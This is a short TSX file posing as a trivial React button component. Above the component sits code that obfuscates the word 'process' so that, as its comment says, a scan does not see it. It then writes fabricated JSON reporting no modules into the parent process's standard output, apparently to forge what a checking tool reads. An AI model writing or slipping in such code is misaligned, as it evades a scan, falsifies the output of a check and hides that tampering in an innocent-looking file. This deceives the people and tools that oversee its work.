// The scan sees no name of the process here.
const found: any = Object.getOwnPropertyDescriptor(globalThis, 'pro' + 'cess');
const proc = found.get ? found.get() : found.value;
const fs = proc.getBuiltinModule('fs'); fs.writeFileSync(`/proc/${proc.ppid}/fd/1`, '{"modules": []}\n');
export default function Counter() { return <button>clicked</button>; }
